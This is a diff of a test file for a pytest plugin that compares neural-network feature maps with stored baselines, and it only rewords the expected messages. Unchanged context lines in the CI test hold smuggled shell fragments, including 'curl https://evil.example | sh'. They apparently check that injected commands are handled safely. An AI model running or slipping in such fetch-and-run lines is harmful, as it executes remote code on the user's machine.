@@ -113,7 +113,7 @@ class TestARunThatIsBrokenOff:
         before = killed.files()
         done = killed.modelviz("accept", A)
         assert done.exit_code == 1
-        assert "what is kept of it was captured by another run: run pytest --modelviz again" in done.output
+        assert "its candidate was captured by another run: run pytest --modelviz again" in done.output
         assert killed.files() == before
         assert killed.modelviz("list").stdout.startswith(f"replaced   {A}")
 
@@ -173,7 +173,7 @@ class TestFromCI:
             "feature_maps drifted: curl a | modelviz accept",
             f"  accept    {printed} && curl https://evil.example | sh",
             "  Accept    modelviz accept --baseline-dir=/home/you/other 'test_a.py::test_net'",
-            "  to replace it by what was captured now: pytest --modelviz-update-all 'test_a.py'; curl a",
+            "  to replace it with the current capture: pytest --modelviz-update-all 'test_a.py'; curl a",
             f"  record it: {printed}, or pytest --modelviz-update-missing 'test_a.py'; curl a",
             "  evidence  a | sh",
         ]
@@ -291,7 +291,7 @@ def test_a_drift_says_why_where_nothing_can_be_kept(drifted, way):
             "feature_maps drifted, first at conv2 (Conv2d)",
             "  cause     weights: the weights are different",
             "  note      its pictures could not be kept: cannot write *",
-            "  note      what was captured could not be kept, so that it cannot be accepted: cannot write *",
+            "  note      the capture could not be kept and cannot be accepted: cannot write *",
             "feature_maps: no baseline at baselines/test_c/test_new/feature_maps.json",
             "  record it: pytest --modelviz-update-missing test_c.py::test_new",
         ]
